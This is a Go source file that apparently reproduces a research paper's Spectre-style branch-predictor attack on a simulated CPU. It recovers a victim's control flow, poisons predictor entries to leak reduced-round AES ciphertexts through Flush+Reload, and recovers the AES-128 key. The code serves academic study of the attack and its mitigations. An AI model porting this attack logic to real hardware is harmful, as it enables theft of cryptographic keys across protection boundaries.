// Package attack composes the core primitives into the paper's end-to-end
// case studies: the high-resolution Spectre attack on looped AES that leaks
// reduced-round ciphertexts and recovers the key (§9), the libjpeg-style
// secret-image recovery (§8), the attack-surface analysis across protection
// boundaries (§7, Table 2), and the mitigation evaluations (§10).
package attack

import (
	"fmt"

	"pathfinder/internal/aes"
	"pathfinder/internal/core"
	"pathfinder/internal/cpu"
	"pathfinder/internal/phr"
	"pathfinder/internal/victim"
)

// AESAttack drives the §9 case study against one oracle instance.
type AESAttack struct {
	M   *cpu.Machine
	Ctx *victim.AESContext

	// Recovered control-flow state (phase 1).
	Rec *core.ExtendedResult

	loopBrPC  uint64
	entryBrPC uint64

	// lastPoison remembers the previously poisoned entry so the next query
	// can re-train it to its architectural direction first; a stale poison
	// would fire a second transient leak and garble the probe decode.
	lastPoison *poison
}

type poison struct {
	pc      uint64
	target  *phr.Reg
	correct bool
}

// NewAESAttack builds the victim oracle on the machine and prepares the
// attack. The attacker knows the binary (§3) but not the key.
func NewAESAttack(m *cpu.Machine, key []byte) (*AESAttack, error) {
	ctx, err := victim.NewAESContext(key)
	if err != nil {
		return nil, err
	}
	ctx.Install(m)
	return &AESAttack{M: m, Ctx: ctx}, nil
}

// Fork binds the attack to a fresh machine for an independent oracle query,
// sharing the immutable victim context and the control flow recovered by a
// completed RecoverControlFlow on the original machine. The fork installs
// the victim state on the new machine and starts with no poison history.
// Forks never touch each other's machines, so queries on distinct forks can
// run concurrently.
func (a *AESAttack) Fork(m *cpu.Machine) (*AESAttack, error) {
	if a.Rec == nil {
		return nil, fmt.Errorf("attack: fork requires a completed RecoverControlFlow")
	}
	a.Ctx.Install(m)
	return &AESAttack{M: m, Ctx: a.Ctx, Rec: a.Rec, loopBrPC: a.loopBrPC, entryBrPC: a.entryBrPC}, nil
}

// Warm runs the capture program the given number of times without poisoning,
// training every branch to its architectural direction. Phase 1 leaves the
// original machine in that state as a side effect; a fork on a fresh machine
// calls Warm before its first poisoned query so the poisoned instance is the
// only misprediction in a leak run (stray mispredictions open extra
// transient windows that garble the probe decode).
func (a *AESAttack) Warm(runs int) error {
	if a.Rec == nil {
		return fmt.Errorf("attack: run RecoverControlFlow first")
	}
	for i := 0; i < runs; i++ {
		if err := a.M.Run(a.Rec.CaptureProgram, "cap_main"); err != nil {
			return err
		}
	}
	return nil
}

func (a *AESAttack) victim() core.Victim {
	v := victim.AESVictim()
	setup := v.Setup
	v.Setup = func(m *cpu.Machine) {
		if setup != nil {
			setup(m)
		}
		a.Ctx.Install(m)
	}
	return v
}

// RecoverControlFlow is phase 1 (§9.2 "Mistraining"): Extended Read PHR
// plus Pathfinder recover the victim's complete control flow, giving the
// exact PHR value at every loop iteration.
func (a *AESAttack) RecoverControlFlow() error {
	a.Ctx.SetPlaintext(a.M, aes.Block{}) // any fixed input; flow is constant-time
	rec, err := core.ExtendedReadPHR(a.M, a.victim(), core.ExtendedOptions{})
	if err != nil {
		return fmt.Errorf("attack: control-flow recovery: %w", err)
	}
	if !rec.Path.Complete {
		return fmt.Errorf("attack: recovered path incomplete")
	}
	a.Rec = rec
	a.loopBrPC = rec.CaptureProgram.MustSymbol("aes_loopbr")
	a.entryBrPC = rec.CaptureProgram.MustSymbol("aes_entrycheck")
	return nil
}

// AdoptRecovery installs a phase-1 recovery completed elsewhere — typically
// replayed from the harness warm-state cache alongside a machine-snapshot
// restore — exactly as if this attack's own RecoverControlFlow had produced
// it. The result is shared, not copied; it is immutable after recovery
// (Fork relies on the same property). Any poison bookkeeping is cleared:
// adopting a recovery only makes sense on a machine whose predictor state
// matches the recovery's post-phase-1 checkpoint, which has no live poison.
func (a *AESAttack) AdoptRecovery(rec *core.ExtendedResult) error {
	if rec == nil || !rec.Path.Complete {
		return fmt.Errorf("attack: adopting an incomplete control-flow recovery")
	}
	a.Rec = rec
	a.loopBrPC = rec.CaptureProgram.MustSymbol("aes_loopbr")
	a.entryBrPC = rec.CaptureProgram.MustSymbol("aes_entrycheck")
	a.lastPoison = nil
	return nil
}

// LoopIterations returns the recovered trip count of the encryption loop —
// the Figure 6 readout (9 for AES-128).
func (a *AESAttack) LoopIterations() int {
	return a.Rec.Path.VisitCount(a.loopBrPC)
}

// phrBeforeInstance replays the recovered path to compute the PHR value the
// predictor sees at the given execution instance (1-based) of the branch at
// pc. The path starts at the cleared call site, so the replay starts from
// an all-zero register.
func (a *AESAttack) phrBeforeInstance(pc uint64, instance int) (*phr.Reg, error) {
	reg := phr.New(a.M.Arch().PHRSize)
	seen := 0
	for _, s := range a.Rec.Path.Steps {
		if s.Addr == pc {
			seen++
			if seen == instance {
				return reg, nil
			}
		}
		if s.Taken {
			reg.UpdateBranch(s.Addr, s.Target)
		}
	}
	return nil, fmt.Errorf("attack: branch %#x has only %d instances, want %d", pc, seen, instance)
}

// LeakReducedRound runs one oracle query poisoned to speculatively exit the
// encryption loop after n full rounds (n = 0 bypasses the loop entirely via
// the BB1 bounds check). It returns the bytes recovered through
// Flush+Reload and a mask of positions that decoded unambiguously.
func (a *AESAttack) LeakReducedRound(pt aes.Block, n int) (leak aes.Block, okMask [16]bool, err error) {
	if a.Rec == nil {
		return leak, okMask, fmt.Errorf("attack: run RecoverControlFlow first")
	}
	rounds := len(a.Ctx.RoundKeys) - 1
	if n < 0 || n >= rounds {
		return leak, okMask, fmt.Errorf("attack: reduced round count %d out of range [0,%d)", n, rounds)
	}
	// Poison the PHT entry of the branch instance that must mispredict.
	var pc uint64
	var instance int
	var direction bool
	if n == 0 {
		pc, instance, direction = a.entryBrPC, 1, true // predict "jbe" taken
	} else {
		pc, instance, direction = a.loopBrPC, n, false // predict loop exit
	}
	target, err := a.phrBeforeInstance(pc, instance)
	if err != nil {
		return leak, okMask, err
	}
	if p := a.lastPoison; p != nil {
		if err := core.WritePHT(a.M, p.pc, p.target, p.correct); err != nil {
			return leak, okMask, err
		}
		a.lastPoison = nil
	}
	if err := core.WritePHT(a.M, pc, target, direction); err != nil {
		return leak, okMask, err
	}
	a.lastPoison = &poison{pc: pc, target: target, correct: !direction}

	// Query the oracle with the transient window widened and the probe
	// pages cold.
	a.Ctx.SetPlaintext(a.M, pt)
	victim.FlushProbe(a.M)
	a.M.Data.Flush(victim.AESRounds)
	if err := a.M.Run(a.Rec.CaptureProgram, "cap_main"); err != nil {
		return leak, okMask, err
	}
	trueCT := a.Ctx.Ciphertext(a.M)

	// Decode: each probe region holds the architectural ciphertext byte
	// plus (when the transient leak fired and differs) the reduced-round
	// byte.
	vals, counts := victim.ReadProbe(a.M)
	for pos := 0; pos < 16; pos++ {
		if counts[pos] > len(vals[pos]) {
			// Noise lit more probe lines than the decoder tracks; the
			// position is hopelessly ambiguous, not a reason to crash.
			okMask[pos] = false
			continue
		}
		others := 0
		var other byte
		for _, v := range vals[pos][:counts[pos]] {
			if v != trueCT[pos] {
				others++
				other = v
			}
		}
		switch others {
		case 0:
			// Only the architectural byte hit: the leaked byte equals it.
			leak[pos], okMask[pos] = trueCT[pos], counts[pos] >= 1
		case 1:
			leak[pos], okMask[pos] = other, true
		default:
			okMask[pos] = false
		}
	}
	return leak, okMask, nil
}

// GroundTruthReduced returns what the early exit after n rounds computes,
// obtained by calling the reference implementation with a reduced round
// count — the paper's ground-truth protocol for the §9 evaluation.
func (a *AESAttack) GroundTruthReduced(pt aes.Block, n int) (aes.Block, error) {
	return aes.ReducedEncrypt(a.Ctx.RoundKeys, pt, n)
}

// RecoverKey recovers the full AES-128 key from skip-loop leaks (n = 0) for
// a handful of known plaintexts, verifying against the oracle's true
// ciphertext. It retries noisy leaks until `queries` oracle calls are
// spent.
func (a *AESAttack) RecoverKey(queries int) (aes.Block, int, error) {
	if len(a.Ctx.Key) != 16 {
		return aes.Block{}, 0, fmt.Errorf("attack: key recovery implemented for AES-128")
	}
	var obs []aes.LeakedPair
	var cts []aes.Block
	used := 0
	rng := newSplitMix(0x5eed)
	for used < queries {
		var pt aes.Block
		for i := range pt {
			pt[i] = byte(rng.next())
		}
		leak, ok, err := a.LeakReducedRound(pt, 0)
		used++
		if err != nil {
			return aes.Block{}, used, err
		}
		if !allOK(ok) {
			continue // ambiguous decode; retry with a fresh plaintext
		}
		obs = append(obs, aes.LeakedPair{Plaintext: pt, Leak: leak})
		cts = append(cts, a.Ctx.Ciphertext(a.M))
		if len(obs) < 4 {
			continue
		}
		key, err := aes.RecoverKeyFromLeaks(obs, cts[0], true)
		if err == nil {
			return key, used, nil
		}
		// A silent transient failure poisoned the set (the decode saw only
		// the architectural ciphertext); drop the oldest observation and
		// keep querying.
		obs = obs[1:]
		cts = cts[1:]
	}
	return aes.Block{}, used, fmt.Errorf("attack: key not recovered within %d oracle queries", queries)
}

func allOK(ok [16]bool) bool {
	for _, v := range ok {
		if !v {
			return false
		}
	}
	return true
}

type splitMix struct{ s uint64 }

func newSplitMix(seed uint64) *splitMix { return &splitMix{s: seed} }

func (r *splitMix) next() uint64 {
	r.s += 0x9e3779b97f4a7c15
	z := r.s
	z = (z ^ z>>30) * 0xbf58476d1ce4e5b9
	z = (z ^ z>>27) * 0x94d049bb133111eb
	return z ^ z>>31
}
